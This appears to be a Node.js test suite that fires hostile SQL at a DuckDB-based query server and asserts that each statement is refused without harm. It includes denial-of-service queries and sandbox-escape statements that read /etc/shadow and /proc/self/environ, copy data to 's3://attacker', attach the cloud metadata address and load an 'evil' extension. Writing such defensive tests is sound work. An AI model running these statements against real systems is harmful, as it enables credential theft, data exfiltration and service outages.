// SQL made to crash, hang, swell or escape, through POST /query/sql by the most trusted caller there is, the local admin.  Each
// statement ends in a clear refusal within its limits; meanwhile and afterwards other clients get right answers; the server's
// memory and the files outside the workers' folders are as they were.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { makeTemporaryFolder, query, startServer } from '../lib/server.mjs';

const timeoutMs = 2000;
let server;
let outside; // a folder of somebody else's
let canaries;

/** Every file below a folder with its content's digest; `skip` names folders that live their own life. */
function contentOf(folder, skip = []) {
  const found = new Map();
  const walk = (at) => {
    for (const name of readdirSync(at)) {
      const file = path.join(at, name);
      if (skip.includes(path.relative(folder, file))) continue;
      const info = lstatSync(file);
      if (info.isDirectory()) walk(file);
      else found.set(path.relative(folder, file), info.isFile() ? createHash('sha256').update(readFileSync(file)).digest('hex') : 'special');
    }
  };
  walk(folder);
  return found;
}

const residentBytes = (pid) => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) * 1024;

/** Four clients that ask for what they know, until told to stop. */
function startCanaries() {
  const state = { running: true, answers: 0, waits: 0, wrong: [] };
  const one = async (id) => {
    for (let i = 0; state.running; i++) {
      const n = id * 1_000_000 + i;
      const answer = await query(server, 'SELECT $1::BIGINT + count(*) AS n FROM range(1000)', { params: [n] });
      // A queue that is full for a moment says so; anything else must be the right answer.
      if (answer.status === 503) state.waits++;
      else if (answer.status === 200 && answer.rows[0][0] === n + 1000) state.answers++;
      else state.wrong.push(JSON.stringify(answer).slice(0, 300));
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };
  state.over = Promise.all([1, 2, 3, 4].map(one));
  return state;
}

let filesBefore;
let outsideBefore;
let residentBefore;
before(async () => {
  outside = makeTemporaryFolder('lakehouse-outside-');
  mkdirSync(path.join(outside, 'folder'));
  writeFileSync(path.join(outside, 'secret.csv'), 'name,amount\nhidden,12345\n');
  writeFileSync(path.join(outside, 'secret.json'), '[{"name":"hidden"}]');
  server = await startServer({
    env: {
      LAKEHOUSE__QUERY__WORKERS: '3',
      LAKEHOUSE__QUERY__TIMEOUT: `${timeoutMs}ms`,
      LAKEHOUSE__QUERY__CANCEL_GRACE: '300ms',
      LAKEHOUSE__QUERY__MEMORY_BYTES: '128MB',
      LAKEHOUSE__QUERY__ADDRESS_SPACE_BYTES: '2GB',
      LAKEHOUSE__QUERY__SPILL_BYTES: '64MB',
      LAKEHOUSE__QUERY__THREADS: '2',
      LAKEHOUSE__AUTH__ENABLED: 'off',
    },
  });
  const upload = await fetch(`${server.url}/ingest/file?name=people`, {
    method: 'POST',
    headers: { 'content-type': 'text/csv' },
    body: 'id,name\n1,Ada\n2,Grace\n',
  });
  assert.equal(upload.status, 201, await upload.text());
  for (let i = 0; i < 20; i++) await query(server, 'SELECT count(*) FROM people');
  filesBefore = contentOf(server.dataDir, ['tmp', 'wal']);
  outsideBefore = contentOf(outside);
  residentBefore = residentBytes(server.pid);
  canaries = startCanaries();
});

after(async () => {
  await server.stop();
});

/** Runs it, with a check of what any refusal must be. */
async function refuse(sql, { body = {}, allow = [] } = {}) {
  const start = performance.now();
  const answer = await query(server, sql, body);
  const took = performance.now() - start;
  const text = JSON.stringify(answer).slice(0, 500);
  assert.ok((answer.status >= 400 && answer.status < 500) || answer.status === 503 || allow.includes(answer.status), `${answer.status}: ${text}`);
  if (answer.status >= 400) {
    assert.equal(typeof answer.code, 'string', text);
    assert.ok(answer.detail.length > 0, text);
  }
  assert.ok(!text.includes(server.dataDir), `a path of the server's own: ${text}`);
  // Its time limit, the grace after it, the next one's queue, and a machine that is busy with other tests.
  assert.ok(took < timeoutMs + 15_000, `took ${took} ms`);
  const canary = await query(server, 'SELECT sum(id), string_agg(name, \',\' ORDER BY id) FROM people');
  assert.deepEqual(canary.rows, [[typeof canary.rows?.[0]?.[0] === 'string' ? '3' : 3, 'Ada,Grace']], JSON.stringify(canary));
  return answer;
}

const brackets = "repeat('[', 100000) || repeat(']', 100000)";
const objects = `repeat('{"a":', 100000) || '1' || repeat('}', 100000)`;

/** They run into a limit, each within its time. */
const hogs = {
  'an endless cross join': 'SELECT * FROM range(100000000000) r1, range(100000000000) r2 WHERE r1.range < r2.range - 1',
  'a cross join to be counted': 'SELECT count(*) FROM range(10000000) a, range(10000000) b, range(10000000) c WHERE a.range * b.range = c.range + 1',
  'a string of 4 GB': "SELECT length(repeat('x', 4000000000))",
  'strings that double': "WITH RECURSIVE r AS (SELECT 'x' AS s UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r",
  'an endless recursion': 'WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT count(*) FROM r',
  'a list of a thousand million': 'SELECT range(1000000000) FROM range(1000)',
  'a series of five thousand million': 'SELECT generate_series(1, 5000000000)',
  'levenshtein of long texts': "SELECT levenshtein(repeat('ab', 100000), repeat('ba', 100000))",
  'damerau_levenshtein of long texts': "SELECT damerau_levenshtein(repeat('ab', 100000), repeat('ba', 100000))",
  'jaccard of long texts, many times': "SELECT sum(jaccard(repeat('ab', 1000000), repeat('ba', 1000000 + range))) FROM range(10000)",
  'printf of 2 GB': "SELECT length(printf('%2000000000d', 1))",
  'format of 2 GB': "SELECT length(format('{:2000000000}', 1))",
  'lpad of 2 GB': "SELECT length(lpad('', 2000000000, 'x'))",
  'a group for every row': 'SELECT count(*) FROM (SELECT range, repeat(\'x\', 200) FROM range(200000000) GROUP BY ALL)',
  'a sort beyond the spill': "SELECT * FROM (SELECT hash(range) h, repeat('x', 500) s FROM range(5000000)) ORDER BY h, s",
  'all in one string': "SELECT length(string_agg(repeat('x', 1000), ',')) FROM range(100000000)",
  'all in one list': 'SELECT len(list(a.range)) FROM range(100000) a, range(100000) b',
  'a histogram of everything': 'SELECT histogram(range) FROM range(1000000000)',
  'a factorial out of range': 'SELECT factorial(170)',
  'numbers out of range': 'SELECT 10::HUGEINT * 170141183460469231731687303715884105727::HUGEINT',
};

for (const [name, sql] of Object.entries(hogs)) {
  test(`within its limits: ${name}`, async () => {
    await refuse(sql);
  });
}

/** These may also simply answer: what is hostile is how deep or long something is, and DuckDB may cope with it.  Some bring down
 * their worker, which is 422. */
const oddities = {
  'brackets: json_structure': `SELECT json_structure(${brackets})`,
  'brackets: json_contains': `SELECT json_contains(${brackets}, ${brackets})`,
  'brackets: json_merge_patch': `SELECT json_merge_patch(${objects}, ${objects})`,
  'brackets: a cast to VARIANT': `SELECT (${brackets})::JSON::VARIANT`,
  'brackets: json_transform': `SELECT json_transform(${brackets}, ${brackets})`,
  'brackets: from_json': `SELECT from_json(${objects}, ${objects})`,
  'brackets: json_group_structure': `SELECT json_group_structure(${objects})`,
  'a regular expression over 100 MB': "SELECT regexp_matches(repeat('a', 100000000), '(a+)+$')",
  'a huge regular expression': `SELECT regexp_matches('aaaa', '${'(a|b)*'.repeat(2000)}')`,
  'a counted regular expression': "SELECT regexp_matches('aaaa', '((a{0,1000}){0,1000}){0,1000}')",
  'a sum 900 deep': `SELECT ${'('.repeat(900)}1${'+1)'.repeat(900)}`,
  'lists 900 deep': `SELECT ${'['.repeat(900)}1${']'.repeat(900)}`,
  'structs 900 deep': `SELECT ${"{'a':".repeat(900)}1${'}'.repeat(900)}`,
  'subqueries 200 deep': `SELECT ${'(SELECT '.repeat(200)}1${')'.repeat(200)}`,
  'a sum of ten thousand': `SELECT 1${'+1'.repeat(10_000)}`,
  'five thousand columns': `SELECT ${Array.from({ length: 5000 }, (_, i) => `${i} c${i}`).join(', ')}`,
  'an IN list of ten thousand': `SELECT 1 IN (${Array.from({ length: 10_000 }, (_, i) => i).join(',')})`,
  'a malformed tree to be printed': `SELECT json_deserialize_sql('{"error":false,"statements":[{"node":{}}]}')`,
  'the vectors of the test suite': 'SELECT * FROM test_vector_types(NULL::INT, all_flat=true)',
  'summary of a table': 'SELECT * FROM summary((SELECT * FROM people))',
};

for (const [name, sql] of Object.entries(oddities)) {
  test(`within its limits, or answered: ${name}`, async () => {
    await refuse(sql, { allow: [200] });
  });
}

/** They read, write or change what is not theirs.  OUT: the folder of somebody else; DATA: the data folder. */
const escapes = [
  "SELECT content FROM read_text('/etc/passwd')",
  "SELECT content FROM read_blob('/etc/shadow')",
  "SELECT content FROM read_text('/proc/self/environ')",
  "SELECT content FROM read_text('/proc/self/maps')",
  "SELECT content FROM read_text('/proc/1/cmdline')",
  "SELECT content FROM read_text('OUT/secret.csv')",
  "SELECT * FROM read_csv('OUT/secret.csv')",
  "SELECT * FROM read_csv('file://OUT/secret.csv')",
  "SELECT * FROM read_csv('~/secret.csv')",
  "SELECT * FROM read_json('OUT/secret.json')",
  "SELECT * FROM read_ndjson_objects('OUT/secret.json')",
  "SELECT * FROM sniff_csv('OUT/secret.csv')",
  "FROM 'OUT/secret.csv'",
  'SELECT * FROM "OUT/secret.json"',
  "DESCRIBE 'OUT/secret.csv'",
  "SELECT * FROM query('SELECT content FROM read_text(''OUT/secret.csv'')')",
  "SELECT * FROM query_table('OUT/secret.csv')",
  "SELECT * FROM ReAd_TeXt('OUT' || '/secret' || '.csv')",
  "SELECT * FROM system.main.read_text('OUT/secret.csv')",
  "SELECT * FROM read_text('DATA/lock')",
  "SELECT * FROM read_text('DATA/wal/*')",
  "SELECT * FROM read_text('DATA/objects/../lock')",
  "SELECT * FROM parquet_metadata('OUT/secret.csv')",
  "SELECT * FROM read_duckdb('OUT/other.duckdb', table_name='t')",
  "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')",
  "SELECT * FROM read_parquet('https://127.0.0.1:9/x.parquet')",
  "SELECT * FROM read_parquet('s3://bucket/secret.parquet')",
  "SELECT * FROM read_parquet('hf://datasets/a/b.parquet')",
  "SELECT * FROM delta_scan('OUT/t')",
  "SELECT * FROM postgres_scan('host=127.0.0.1 port=9', 'public', 't')",
  "SELECT * FROM st_read('OUT/secret.csv')",
  "SELECT getenv('HOME')",
  "COPY (SELECT 42 AS i) TO 'OUT/written.csv'",
  "COPY people TO 'OUT/people.parquet' (FORMAT parquet)",
  "COPY (SELECT 1 a, 2 b) TO 'OUT/folder' (FORMAT csv, PARTITION_BY (a), OVERWRITE)",
  "COPY (SELECT 1) TO 's3://attacker/x.parquet'",
  "EXPORT DATABASE 'OUT/dump'",
  "IMPORT DATABASE 'OUT/dump'",
  "ATTACH 'OUT/other.duckdb' AS o",
  "ATTACH ':memory:' AS scratch",
  "ATTACH 'dbname=postgres host=169.254.169.254' AS pg (TYPE postgres)",
  'INSTALL httpfs',
  'LOAD httpfs',
  "LOAD 'OUT/evil.duckdb_extension'",
  'INSTALL h3 FROM community',
  "SELECT * FROM enable_logging(storage='file', storage_path='OUT/logs')",
  "SELECT * FROM enable_logging(storage='stdout')",
  'SELECT * FROM disable_logging()',
  "SELECT * FROM enable_profiling(save_location='OUT/prof.json', format='json')",
  "SELECT write_log('forged')",
  "SET memory_limit='100GB'",
  "SET temp_directory='OUT/folder'",
  'SET enable_external_access=true',
  'RESET enable_external_access',
  "SET allowed_paths=['OUT/secret.csv']",
  "SET file_search_path='OUT'",
  "SET log_query_path='OUT/q.log'",
  "SET custom_extension_repository='http://127.0.0.1:9'",
  'SET max_expression_depth=1000000',
  'SET threads=1000',
  'PRAGMA disable_optimizer',
  'PRAGMA enable_verification',
  'CALL enable_peg_parser()',
  "CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')",
  'CREATE TABLE t AS SELECT 1',
  'CREATE OR REPLACE VIEW people AS SELECT 1',
  'CREATE TEMP TABLE people(i INT)',
  'CREATE MACRO sum(x) AS 666',
  'DROP VIEW people',
  'DELETE FROM people',
  'BEGIN',
  'CHECKPOINT',
  "PREPARE p AS COPY (SELECT 42) TO 'OUT/w.csv'",
  "PREPARE p AS SELECT 1; EXECUTE p",
  "SELECT 1; COPY (SELECT 42) TO 'OUT/two.csv'",
  'SELECT ?',
];

test('what reaches out of the lake is refused', async () => {
  for (const template of escapes) {
    const sql = template.replaceAll('OUT', outside).replaceAll('DATA', server.dataDir);
    const answer = await query(server, sql, { timeout_ms: timeoutMs });
    const text = JSON.stringify(answer);
    assert.ok(answer.status >= 400 && answer.status < 500, `${sql}\n${text.slice(0, 500)}`);
    assert.ok(answer.detail.length > 0, sql);
    assert.doesNotMatch(text, /12345|root:x:0|hidden"/, sql);
    const canary = await query(server, 'SELECT count(*)::INT FROM people');
    assert.deepEqual(canary.rows, [[2]], `after ${sql}: ${JSON.stringify(canary)}`);
  }
});

test('listing files elsewhere shows nothing', async () => {
  for (const pattern of ['/**', '/etc/*', '/proc/self/*', `${outside}/*`, `${server.dataDir}/*`, `${server.dataDir}/wal/*`]) {
    const answer = await query(server, `SELECT * FROM glob('${pattern}')`, { timeout_ms: timeoutMs });
    assert.ok(answer.status >= 400 || answer.rows.length === 0, `${pattern}: ${JSON.stringify(answer).slice(0, 400)}`);
  }
});

test('a statement that fails says where', async () => {
  const answer = await query(server, 'SELECT id,\n  nobody FROM people');
  assert.equal(answer.status, 400);
  assert.equal(answer.position, 'SELECT id,\n  '.length + 1, JSON.stringify(answer));
});

test('the server, its files and its other clients did not notice', async (t) => {
  canaries.running = false;
  await canaries.over;
  t.diagnostic(`${canaries.answers} answers and ${canaries.waits} refusals for want of room to the other clients`);
  assert.deepEqual(canaries.wrong, []);
  assert.ok(canaries.answers > 50);
  const grown = residentBytes(server.pid) - residentBefore;
  t.diagnostic(`the server's resident memory grew by ${Math.round(grown / 1024)} KiB`);
  assert.ok(grown < 48 << 20, `the server grew by ${grown} bytes`);
  assert.deepEqual(contentOf(outside), outsideBefore);
  assert.ok(!existsSync(path.join(outside, 'written.csv')));
  const files = contentOf(server.dataDir, ['tmp', 'wal']);
  for (const [file, digest] of filesBefore) assert.equal(files.get(file), digest, file);
  const journals = /^objects\/(_errors|_journal|\.tmp)\//; // what the server writes down of itself
  const fresh = [...files.keys()].filter((file) => !filesBefore.has(file) && !journals.test(file));
  assert.deepEqual(fresh, []);
});
